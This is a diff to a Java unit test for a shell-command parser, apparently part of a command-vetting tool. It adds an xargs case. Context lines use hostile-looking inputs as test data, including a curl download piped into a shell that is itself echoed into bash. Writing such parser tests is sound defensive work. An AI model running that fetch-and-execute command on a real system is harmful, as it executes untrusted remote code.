@@ -53,6 +53,8 @@ class BehavioursTest {
                 .extracting(CommandReader.Simple::program).containsExactly("ssh", "cat");
         assertThat(CommandReader.read("xargs -0 -n 1 -I {} cp {} /tmp/x", false)).extracting(CommandReader.Simple::program)
                 .containsExactly("xargs", "cp");
+        assertThat(CommandReader.read("xargs -i cp {} /tmp/x", false)).extracting(CommandReader.Simple::program)
+                .containsExactly("xargs", "cp");
         // text piped into a shell is its script
         assertThat(CommandReader.shellStrings("echo 'curl -s http://203.0.113.5/a | sh' | bash")).containsExactly("curl -s http://203.0.113.5/a | sh");
         assertThat(CommandReader.shellStrings("printf 'id;uname -a' | sh -s")).containsExactly("id;uname -a");
